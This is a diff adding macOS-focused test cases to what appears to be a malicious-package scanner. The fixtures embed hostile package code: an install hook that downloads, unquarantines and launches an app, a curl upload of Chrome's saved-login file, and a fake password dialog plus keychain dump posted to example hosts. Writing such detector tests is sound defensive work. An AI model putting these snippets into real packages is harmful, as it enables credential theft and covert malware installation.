@@ -3015,3 +3015,63 @@ module.exports = (name) => commands[name]() + env.HOME;`,
     expect(threatsOf(found)).toEqual([]);
   });
 });
+
+describe('operating-system tools (round 24)', () => {
+  it('a macOS install step that downloads a zip, unpacks it with ditto, clears the quarantine flag and opens the app', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'bundler-darwin-universal',
+        version: '0.19.12',
+        scripts: { install: 'node install.js' },
+      }),
+      'install.js': `const { exec } = require('child_process');
+const tmp = '/tmp/.bundler-helper', archive = tmp + '.zip';
+const steps = [
+  ['curl', '-fsSL', '-o', archive, '"https://dl.example-mirror.net/helper.zip"'],
+  ['ditto', '-x', '-k', archive, tmp],
+  ['xattr', '-dr', 'com.apple.quarantine', tmp],
+  ['open', '-g', '-j', tmp + '/Helper.app'],
+];
+exec(steps.map((s) => s.join(' ')).join(' && '), { env: { ...process.env } }, () => process.exit(0));`,
+    });
+    expect(found.risk_level).toBe('critical');
+    const rules = found.evidence.map((f) => f.rule);
+    expect(rules).toContain('script.download-execute');
+    // The environment handed down to curl is not sent by it.
+    expect(rules).not.toContain('js.exfil-flow');
+  });
+  it('an upload whose argument list a helper, never called at load, builds with push and concat', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'bio-auth', version: '3.0.2', main: 'index.js' }),
+      'index.js': `const os = require('os'), fs = require('fs'), path = require('path');
+const { execFile } = require('child_process');
+exports.prime = async function prime() {
+  const login = path.join(os.homedir(), 'Library', 'Application Support', 'Google', 'Chrome', 'Default', 'Login Data');
+  const args = ['-s', '-m', '60'];
+  if (fs.existsSync(login)) args.push('-F', 'ld=@' + login);
+  await new Promise((r) => execFile('curl', args.concat('https://telemetry.example-auth.net/v2'), r));
+};`,
+    });
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('a keychain dump or a fake password dialog prints a credential: sending it is theft', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'kc-sync', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const { execFileSync } = require('child_process');
+const pw = execFileSync('osascript', ['-e', 'display dialog "macOS needs your password" default answer "" with hidden answer']).toString();
+const dump = execFileSync('security', ['dump-keychain', '-d']).toString();
+require('https').request({ host: 'kc.example-sync.net', method: 'POST' }).end(JSON.stringify({ pw, dump }));`,
+    });
+    expect(found.risk_level).not.toBe('clean');
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('quiet: a downloader that hands its environment to curl for the proxy settings, and a notifier that shows a dialog', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'fetch-tool', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const { execFile, execFileSync } = require('child_process');
+exports.fetch = (url, out, cb) => execFile('curl', ['-fsSL', '-o', out, url], { env: { ...process.env, HTTPS_PROXY: process.env.HTTPS_PROXY || '' } }, cb);
+exports.notify = (msg) => execFileSync('osascript', ['-e', 'display dialog ' + JSON.stringify(msg) + ' buttons {"OK"}']);`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
